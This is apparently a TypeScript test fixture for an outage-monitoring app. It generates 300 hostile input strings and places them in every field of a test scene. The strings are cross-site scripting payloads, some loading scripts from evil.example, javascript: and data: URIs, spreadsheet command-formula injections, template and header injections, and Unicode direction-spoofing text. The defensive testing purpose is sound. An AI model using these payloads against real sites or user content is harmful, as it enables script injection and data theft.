// Texts that want to break out: 300 payloads, put wherever a stranger's text can get.

import { feedBrief, post, type Scene } from "./scene";

const scripts = [
  "<script>alert(N)</script>", "<ScRiPt>alert(N)</sCrIpT>", "<script src=https://evil.example/N.js></script>", "<script src=//evil.example/N></script>",
  "</script><script>alert(N)</script>", "</title><script>alert(N)</script>", "</textarea><script>alert(N)</script>", "--><script>alert(N)</script>",
  "]]><script>alert(N)</script>", "<scr<script>ipt>alert(N)</scr</script>ipt>", "\"><script>alert(N)</script>", "'><script>alert(N)</script>",
  "<script\n>alert(N)</script\n>", "<script/x>alert(N)</script>", "<svg><script>alert(N)</script></svg>", "<script type=module>import 'https://evil.example/N'</script>",
];
const handlers = [
  "<img src=x onerror=alert(N)>", "<img src=https://evil.example/N.gif>", "<svg onload=alert(N)>", "<svg/onload=alert(N)>", "<body onload=alert(N)>",
  "<iframe src=javascript:alert(N)>", "<iframe srcdoc='<script>alert(N)</script>'>", "<input autofocus onfocus=alert(N)>", "<details open ontoggle=alert(N)>",
  "<video><source onerror=alert(N)>", "<audio src=x onerror=alert(N)>", "<marquee onstart=alert(N)>", "<a href=javascript:alert(N)>x</a>", "<form action=https://evil.example/N><button>",
  "<object data=https://evil.example/N>", "<embed src=https://evil.example/N>", "<link rel=stylesheet href=https://evil.example/N.css>", "<meta http-equiv=refresh content='0;url=https://evil.example/N'>",
  "<base href=https://evil.example/N/>", "<style>@import 'https://evil.example/N.css'</style>", "<div style=background:url(https://evil.example/N)>", "\" onmouseover=alert(N) x=\"", "' onfocus=alert(N) autofocus '",
  "<math><mi xlink:href=javascript:alert(N)>x</mi></math>", "<template><img src=x onerror=alert(N)></template>", "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>", "<xss contenteditable onblur=alert(N)>",
];
const links = [
  "javascript:alert(N)", "JaVaScRiPt:alert(N)", " javascript:alert(N)", "java\tscript:alert(N)", "java\nscript:alert(N)", "\u0001javascript:alert(N)", "javascript&colon;alert(N)", "javascript://%0aalert(N)",
  "data:text/html,<script>alert(N)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(N)", "file:///etc/passwd#N", "blob:https://evil.example/N", "about:blank#N",
  "https://user:secret@evil.example/N", "https://bsky.example@evil.example/N", "//evil.example/N", "/\\evil.example/N", "http:evil", "ftp://evil.example/N", "view-source:https://evil.example/N", "intent://evil#N", "not a link N", "",
];
const writing = [
  "\u202egnp.exe N\u202c", "\u2066\u2066\u2066N\u202e", "\u200f\u200e\u202a\u202b\u202d N", "a\u0000b N", "\u001b[31mred\u001b[0m N", "\u001b]0;title\u0007 N", "\r\nSet-Cookie: a=N", "\b\b\b\bN", "\u0085\u009bN", "\ufeffN\ufffe",
  "W".repeat(400) + "N", "🏴".repeat(120) + "N", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d".repeat(30) + "N", "שלום עולם, נטפליקס לא עובד N", "نتفليكس لا يعمل منذ ساعة N", "{{constructor.constructor('alert(N)')()}}", "${alert(N)}", "#{alert(N)}", "<%= alert(N) %>",
  "=cmd|'/c calc'!AN", "+N+cmd|' /C calc'!A0", "@SUM(N)", "<!channel> <@U123> N", "%3Cscript%3Ealert(N)%3C/script%3E", "&lt;script&gt;alert(N)&lt;/script&gt;", "&#60;script&#62;alert(N)", "\\u003cscript\\u003ealert(N)", "\ud800 lone N", "N".padStart(1, "\u2028"),
  "<bdo dir=rtl>N", "__proto__", "constructor", "toString",
];

const families = [scripts, handlers, links, writing];

export const payloads: string[] = Array.from({ length: 300 }, (_, n) => {
  const family = families[n % families.length] ?? scripts;
  return (family[Math.floor(n / families.length) % family.length] ?? "").replaceAll("N", String(n));
});

/** The same world, with payloads as texts, links, names, places, reasons and samples. */
export function hostileScene(scene: Scene): Scene {
  scene.name = "hostile";
  const at = (n: number): string => payloads[n % payloads.length] ?? "";
  const intents = ["report", "question", "news", "joke", "official", "workaround", "recovery"] as const;
  const posts = payloads.map((text, n) => post("netflix", scene.now - n, text, {
    id: `hostile-${n}`, link: at(n * 4 + 2), intent: intents[n % intents.length] ?? "report", region: at(n + 1), region_name: at(n + 5), symptoms: [at(n + 9)],
  }));
  scene.posts.set("netflix", posts);
  [...scene.services.values()].forEach((service, n) => { service.name = at(n); service.status_page = at(n * 4 + 2); service.aliases = [at(n + 3)]; service.reason = at(n + 7); });
  for (const made of scene.incidents.values()) {
    made.service = { ...made.service, name: at(0) };
    Object.assign(made, { samples: posts.slice(0, 40), tips: posts.filter((p) => p.intent === "workaround"), cause: [at(5)], command: at(8) });
    made.transitions.forEach((transition, n) => { transition.reason = at(n + 20); transition.actor = at(n + 30); });
    made.official.posts = posts.filter((p) => p.intent === "official").slice(0, 20);
    made.coordination.clusters = [{ posts: 5, of: "text", text: at(16) }];
    made.review = { verdict: null, acknowledged_at: null, dismissed_at: null, notes: [{ at: made.onset_at, text: at(17) }] };
  }
  for (const [n, one] of scene.feeds.entries()) Object.assign(one, { sample: at(n * 3), why: at(n * 3 + 1), host: at(n * 4 + 2), name: at(n) });
  for (const [n, one] of scene.sinks.entries()) Object.assign(one, { name: at(n), kind: at(n + 1), why: at(n + 2) });
  scene.status.feeds = scene.feeds.map(feedBrief);
  scene.status.trouble = at(0);
  return scene;
}
